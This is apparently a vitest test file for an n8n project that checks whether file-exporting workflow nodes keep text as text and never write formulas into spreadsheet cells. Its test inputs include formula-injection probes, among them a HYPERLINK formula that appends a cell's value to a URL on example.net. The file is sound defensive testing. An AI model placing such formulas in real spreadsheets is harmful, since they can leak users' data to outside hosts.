import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { INode } from 'n8n-workflow';
import { expect, test } from 'vitest';
import { exampleNames } from '../server/examples.mts';
import { projectRoot } from '../server/install.mjs';
import { outputOf } from '../server/rest.mts';
import { cellsOf } from '../support/spreadsheet.mts';
import { nodeOf, runNodes, signIn } from './session.mts';

/** The nodes of all examples that make a file, which a person opens: programs get the items themselves. */
const makers = exampleNames().flatMap((name) => {
	const text = readFileSync(join(projectRoot, 'examples', `${name}.json`), 'utf8');
	const { nodes } = JSON.parse(text) as { nodes: INode[] };
	return nodes
		.filter(({ type }) => /\.(convertToFile|spreadsheetFile|readWriteFile|html)$/.test(type))
		.map((node): [string, INode] => [`${name}: ${node.name}`, node]);
});

const texts = [
	...['=1+1', '=HYPERLINK("http://example.net/?"&A1,"here")', '+1', '-1', '@SUM(A1)', '\t=1'],
	...['\n=1', '\r=1', '00123', '1E5', '789123456789', 'Caneca "A"; azul, 300 ml', 'açaí'],
];
const numbers = [-5, 0, 79.9, 1234567.89];

const n8n = await signIn();

test.each(makers)('%s: text stays text and a number a number', async (_name, maker) => {
	const rows = [
		...texts.map((value) => ({ [value]: value, value })),
		...numbers.map((value) => ({ value })),
	];
	const execution = await runNodes(
		n8n,
		nodeOf('Rows', 'code', {
			typeVersion: 2,
			parameters: { jsCode: `return ${JSON.stringify(rows)}.map((json) => ({ json }));` },
		}),
		{ ...maker, name: 'File' },
		nodeOf('Content', 'code', {
			typeVersion: 2,
			parameters: {
				jsCode: `const file = await this.helpers.getBinaryDataBuffer(0, 'data');
					return [{ json: { data: file.toString('base64') } }];`,
			},
		}),
	);
	expect(execution.error).toBeUndefined();
	const [{ data } = {}] = outputOf(execution, 'Content');
	const [header = [], ...cells] = cellsOf(Buffer.from(data as string, 'base64'));
	const column = header.findIndex(({ v }) => v === 'value');
	const values = cells.map((row) => row[column]);
	expect(values).toEqual([
		...texts.map((v) => expect.objectContaining({ t: 's', v })),
		...numbers.map((v) => expect.objectContaining({ t: 'n', v })),
	]);
	expect([header, ...cells].flat().filter(({ f }) => f !== undefined)).toEqual([]);
	expect(header.every(({ t }) => t === 's')).toBe(true);
});

test('they are all that make files', () => {
	expect(makers.map(([name]) => name)).toEqual([
		'morning-labels: List',
		'price-rules: All Rows',
		'proposals: All Rows',
		'sync-dry-run-report: Report',
		'sync-with-approval: All Rows',
	]);
});
